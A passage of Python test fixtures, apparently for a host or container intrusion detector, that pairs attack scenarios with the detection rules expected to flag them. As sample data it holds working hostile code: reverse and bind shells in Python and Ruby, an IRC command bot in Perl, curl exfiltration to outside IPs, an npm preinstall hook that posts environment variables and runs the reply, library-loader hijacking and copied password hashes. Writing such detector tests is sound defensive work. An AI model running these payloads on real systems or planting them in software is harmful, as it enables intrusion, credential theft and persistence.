    command("BASH_ENV in a process", H, "process.", ["bash", "-c", "id"], "/bin/bash", process={"environ": ["BASH_ENV=/dev/shm/e"]}),
    Attack("database that started a shell", H, ("process.shell-under-server",), processes=(process(10, ["postgres"], "/usr/lib/postgresql/15/bin/postgres"), process(11, ["sh", "-c", "id|curl -d@- http://203.0.113.9"], "/bin/dash", ppid=10))),
    Attack("java that started a download", H, ("process.shell-under-server",), processes=(process(10, ["java", "-jar", "app.jar"], "/opt/java/bin/java"), process(11, ["curl", "-s", "http://203.0.113.9/x"], "/usr/bin/curl", ppid=10))),
    Attack("application server that started a shell", H, ("process.",), processes=(process(10, ["node", "server.js"], "/usr/bin/node", fds={5: "socket:[1]"}), process(11, ["/bin/sh", "-c", "cat /etc/passwd; id"], "/bin/dash", ppid=10)), sockets=(tcp("0.0.0.0:8080", inode=1),)),
    Attack("shell behind a pipe of socat", C, ("process.shell-behind",), processes=(process(10, ["socat", "-", "tcp:x"], "/usr/bin/socat", fds={0: "pipe:[4]", 1: "pipe:[5]", 5: "socket:[9]"}), process(11, ["sh"], "/bin/dash", fds={0: "pipe:[5]", 1: "pipe:[4]", 2: "pipe:[4]"})), sockets=_SOCKET["sockets"]),
    Attack("metadata service", H, ("network.metadata",), processes=(process(10, ["curl", "http://169.254.169.254/"], "/usr/bin/curl", fds={5: "socket:[7]"}),), sockets=(tcp("172.17.0.2:5001", "169.254.169.254:80", "SYN_SENT", 7),)),
    Attack("listener of a newcomer on a high port", H, ("network.",), files={"usr/local/bin/agent": F(STATIC + b"l", 0o755)}, processes=(process(10, ["/usr/local/bin/agent"], "/usr/local/bin/agent", fds={3: "socket:[8]"}),), sockets=(tcp("0.0.0.0:31337", inode=8),)),
    Attack("python listener with a shell", C, ("process.",), processes=(process(10, ["python3", "-c", "import socket,subprocess as s;k=socket.socket();k.bind(('',9));k.listen(1);c,a=k.accept();s.call('sh',stdin=c,stdout=c)"], "/usr/bin/python3.11"),)),
    Attack("raw socket in a plain program", M, ("network.raw",), processes=(process(10, ["/usr/bin/d"], "/usr/bin/d", fds={3: "socket:[8]"}),), sockets=({"proto": "packet", "inode": 8},)),
    Attack("script in a temporary place that opens a shell", C, ("process.", "script."), files={"tmp/.w/a.py": "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.66',443))\nfor f in (0,1,2): os.dup2(s.fileno(),f)\npty.spawn('/bin/sh')\n"}, processes=(process(10, ["python3", "/tmp/.w/a.py"], "/usr/bin/python3.11"),)),
    Attack("script in the image's application folder that opens a shell", C, ("process.", "script."), files={"app/worker.py": "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.66',443))\nfor f in (0,1,2): os.dup2(s.fileno(),f)\npty.spawn('/bin/sh')\n"}, processes=(process(10, ["python3", "worker.py"], "/usr/bin/python3.11", cwd="/app"),)),
    Attack("ruby script that runs what it receives", C, ("process.", "script."), files={"app/tmp.rb": "require 'socket'\ns=TCPSocket.new('203.0.113.66',443)\nwhile l=s.gets\n s.puts `#{l}`\nend\n"}, processes=(process(10, ["ruby", "/app/tmp.rb"], "/usr/bin/ruby3.1"),)),
]  # fmt: skip

LIVE = [
    file("loader folder whose library stands before the system's", H, "persistence.loader", {"etc/ld.so.conf.d/00-locale.conf": "/usr/lib/locale-cache\n", "usr/lib/locale-cache/pam_unix.so": F(LIBRARY + b"own", 0o644), "usr/lib/locale-cache/libc.so.6": F(LIBRARY + b"own", 0o644)}),
    file("perl bot that runs a part of what it is told", H, "script.", {"var/tmp/.sess.pl": "use Socket;\nwhile(1){ socket(my $s,PF_INET,SOCK_STREAM,6);\n if(connect($s,sockaddr_in(6667,inet_aton('192.0.2.55')))){ while(my $l=<$s>){ if($l=~/PRIVMSG .* :!x (.*)/){ my $o=`$1`; print $s $o; } } } sleep 2 }\n"}),
    file("install hook in a file of its own that runs an answer", H, "script.", {"app/node_modules/lpad/package.json": '{"name":"lpad","scripts":{"preinstall":"node lib/setup.js"}}\n', "app/node_modules/lpad/lib/setup.js": "const h=require('https'),c=require('child_process');const r=h.request({host:'collect.invalid',method:'POST'},s=>{let b='';s.on('data',x=>b+=x);s.on('end',()=>c.exec(b))});r.write(JSON.stringify(process.env));r.end();\n"}),
    file("log of the package manager emptied in place", M, "traces.log-emptied", {"var/log/dpkg.log": ""}),
    file("password file in a small archive", H, "yara.password_hashes_copied", {"var/cache/fontconfig/.d/f": _pack("etc/shadow", "root:*:19000:0:99999:7:::\n")}, yara=True),
    file("password file copied", H, "yara.password_hashes_copied", {"var/www/html/x.txt": "root:$y$j9T$abc/def.ghi:19000:0:99999:7:::\n"}, yara=True),
]  # fmt: skip

ATTACKS = (*PERSISTENCE, *FILES, *PROCESSES, *LIVE)
